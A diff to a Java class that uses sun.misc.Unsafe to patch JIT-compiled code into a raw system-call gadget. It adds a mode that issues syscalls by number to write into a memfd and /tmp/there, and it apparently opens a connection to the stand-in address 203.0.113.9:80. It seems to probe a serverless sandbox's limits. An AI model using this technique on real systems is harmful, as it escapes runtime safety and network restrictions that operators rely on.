@@ -3,7 +3,8 @@ import java.nio.file.Files;
 import java.nio.file.Paths;
 import sun.misc.Unsafe;
 
-/** Reaches 203.0.113.9:80 by Java alone, on x86_64: Unsafe writes over a constant in the JIT's code. */
+/** Reaches 203.0.113.9:80 by Java alone, on x86_64: Unsafe writes over a constant in the JIT's code.
+ * `limits`: after the first request for an event it writes to files instead. */
 public class AllMemory {
     static final long MARK = 0x1122334455667788L;
     static Unsafe unsafe;
@@ -28,6 +29,18 @@ public class AllMemory {
         return sum;
     }
 
+    static long put(String text, long to) {
+        for (int i = 0; i <= text.length(); i++) unsafe.putByte(to + i, i < text.length() ? (byte) text.charAt(i) : 0);
+        return to;
+    }
+
+    static void limits(long memory) {
+        System.out.println("GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\n\r");
+        long file = run(319, put("memory", memory), 0, 0), there = run(2, put("/tmp/there", memory), 2, 0);
+        long[] results = {run(77, file, 4096, 0), run(1, file, memory, 7), run(1, there, memory, 7)};
+        System.out.println((file > 2 && there > 2) + " " + results[0] + " " + results[1] + " " + results[2]);
+    }
+
     public static void main(String[] arguments) throws Exception {
         for (int i = 0; i < 20; i++, Thread.sleep(50)) compile();
         Field field = Unsafe.class.getDeclaredField("theUnsafe");
@@ -42,6 +55,10 @@ public class AllMemory {
                     code = at;
         }
         long memory = unsafe.allocateMemory(64);
+        if (arguments.length > 0) {
+            limits(memory);
+            return;
+        }
         byte[] address = {2, 0, 0, 80, (byte) 203, 0, 113, 9}, said = "arrived".getBytes();
         for (int i = 0; i < 16; i++) unsafe.putByte(memory + i, i < address.length ? address[i] : 0);
         for (int i = 0; i < said.length; i++) unsafe.putByte(memory + 32 + i, said[i]);
